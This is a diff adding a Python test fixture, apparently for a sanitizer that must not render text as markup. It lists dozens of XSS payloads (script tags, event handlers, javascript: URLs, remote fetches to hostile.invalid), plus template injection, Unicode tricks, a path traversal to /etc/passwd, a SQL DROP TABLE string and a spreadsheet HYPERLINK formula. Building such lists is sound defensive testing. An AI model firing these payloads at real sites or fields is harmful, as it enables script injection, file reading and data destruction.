@@ -1,0 +1,88 @@
+"""Texts that would run, load or fake something if a screen took them for markup (SEC-03).
+
+Each sets `window.ran`, asks `hostile.invalid` for something, or would change what the page is.
+Written for these tests from the HTML and SVG standards; each is a class of its own.
+"""
+
+_RUN = "window.ran=1"
+_AWAY = "https://hostile.invalid"
+HOSTILE = (
+    # Elements that run by themselves.
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT SRC={_AWAY}/a.js></SCRIPT>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"</script><script>{_RUN}</script>",
+    f"<script type=module>{_RUN}</script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><script href={_AWAY}/b.js /></svg>",
+    f"<math><mtext><script>{_RUN}</script></mtext></math>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
+    # Handlers.
+    f"<img src=x onerror={_RUN}>",
+    f'"><img src=x onerror="{_RUN}">',
+    f"'><img src=x onerror='{_RUN}'>",
+    f"`><img src=x onerror=`{_RUN}`>",
+    f"<img src=x onerror\n=\n{_RUN}>",
+    f"<IMG/SRC=x/ONERROR={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}></select>",
+    f"<textarea autofocus onfocus={_RUN}></textarea>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<div style=animation-name:x onanimationstart={_RUN}>x</div>",
+    f"<p onpointerenter={_RUN}>x</p>",
+    f"<object data=x onerror={_RUN}></object>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
+    f"<svg><set onbegin={_RUN} attributeName=x></svg>",
+    # Addresses that run or fetch.
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt&#58;{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"<iframe src=javascript:{_RUN}></iframe>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    f"<iframe src={_AWAY}></iframe>",
+    f"<embed src={_AWAY}/c.svg>",
+    f"<object data={_AWAY}/d.swf></object>",
+    f"<svg><use href={_AWAY}/e.svg#x /></svg>",
+    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
+    f"<form action={_AWAY}><button>x</button></form>",
+    f"<button formaction=javascript:{_RUN}>x</button>",
+    f"<base href={_AWAY}/>",
+    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
+    f"<link rel=stylesheet href={_AWAY}/f.css>",
+    f"<link rel=preload as=image href={_AWAY}/g.png>",
+    # Styles that fetch or cover.
+    f"<style>@import url({_AWAY}/h.css)</style>",
+    "<style>*{display:none}</style>",
+    f"<div style=background:url({_AWAY}/i.png)>x</div>",
+    "<div style=position:fixed;inset:0;background:red>x</div>",
+    # What builders of text mistake: templates, formats, entities.
+    "{@html '<img src=x onerror=window.ran=1>'}",
+    "${window.ran=1}",
+    "{{constructor.constructor('window.ran=1')()}}",
+    "{count, plural, one {x} other {<b>#</b>}}",
+    "{name} {0} %s %(name)s",
+    f"&lt;img src=x onerror={_RUN}&gt;",
+    f"&#x3C;script&#x3E;{_RUN}&#x3C;/script&#x3E;",
+    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
+    f"<!--><img src=x onerror={_RUN}>-->",
+    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
+    f"<?xml version='1.0'?><x onload={_RUN}/>",
+    # Letters that turn, hide or split text.
+    f"x\u202egnp.<img src=x onerror={_RUN}>",
+    f"<\u200bscript>{_RUN}</script>",
+    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
+    f"\ufeff<img src=x onerror={_RUN}>",
+    "__proto__",
+    "constructor",
+    "../../../etc/passwd",
+    "'; DROP TABLE operation; --",
+    '=HYPERLINK("https://hostile.invalid","x")',
+)
